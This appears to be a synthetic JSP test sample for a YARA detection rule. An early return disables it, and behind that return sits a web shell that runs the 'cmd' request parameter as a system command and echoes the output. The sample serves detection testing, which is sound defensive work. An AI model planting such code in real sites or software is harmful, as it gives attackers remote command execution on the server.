<%-- Vigil YARA test sample: synthetic; the page returns first. --%>
<%@ page import="java.io.*" %>
<% if (true) { return; } %>
<%
Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
String line;
while ((line = r.readLine()) != null) { out.println(line); }
%>
